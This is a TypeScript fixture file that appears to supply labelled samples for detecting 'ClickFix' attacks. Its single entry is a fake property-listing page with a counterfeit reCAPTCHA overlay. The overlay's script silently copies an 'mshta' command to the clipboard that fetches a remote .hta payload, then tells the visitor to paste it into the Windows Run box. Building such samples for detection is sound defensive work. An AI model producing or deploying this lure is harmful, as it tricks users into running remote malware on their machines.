import { type Entry } from '../entry.js';
import { doc, js, json, html, b64 } from '../parts/zo-kit.js';
import { pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zo-clickfix-recaptcha-winr-mshta',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.harbourview-realty-listings.com/property/4-bed-villa-marbella',
    body: doc('4 Bed Villa, Marbella – Harbourview Realty', `
<header><b>Harbourview Realty</b> · Buy · Rent · Sell · Contact</header>
<main><h1>4 Bed Villa with Sea Views, Marbella</h1><p>€1,450,000 · 320 m² · Pool · Garage</p><p>Stunning modern villa located in a quiet residential area, 10 minutes from Puerto Banús.</p></main>
<div id="ov" style="position:fixed;inset:0;background:rgba(255,255,255,.97);display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial">
 <div style="width:330px;border:1px solid #d3d3d3;border-radius:3px;background:#f9f9f9;padding:14px;box-shadow:0 0 4px rgba(0,0,0,.08)">
  <div id="s1" style="display:flex;align-items:center;gap:12px"><div id="cb" style="width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer"></div><span>I'm not a robot</span><span style="margin-left:auto;font-size:10px;color:#555;text-align:center">reCAPTCHA<br>Privacy - Terms</span></div>
  <div id="s2" style="display:none;font-size:14px">
   <p style="background:#4a90e2;color:#fff;padding:10px;margin:-14px -14px 10px"><b>Verification steps</b></p>
   <ol style="padding-left:18px"><li>Press <b>Windows Button "&#8862;" + R</b></li><li>In the verification window, press <b>CTRL + V</b></li><li>Press <b>Enter</b> on your keyboard to finish</li></ol>
   <p style="font-size:12px;color:#555">You will observe and agree:<br><code>✅ "I am not a robot - reCAPTCHA Verification ID: 2165"</code></p>
   <button class="btn" style="width:100%" onclick="document.getElementById('ov').remove()">Verify</button>
  </div>
 </div>
</div>
<script>
var cmd='mshta https://cdn.propimg-storage.com/v/2165.hta # ✅ \\'\\'I am not a robot - reCAPTCHA Verification ID: 2165\\'\\'';
document.getElementById('cb').onclick=function(){
 var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
 if(navigator.clipboard)navigator.clipboard.writeText(cmd).catch(function(){});
 document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';};
</script>`, { lang: 'en' }),
  },
];
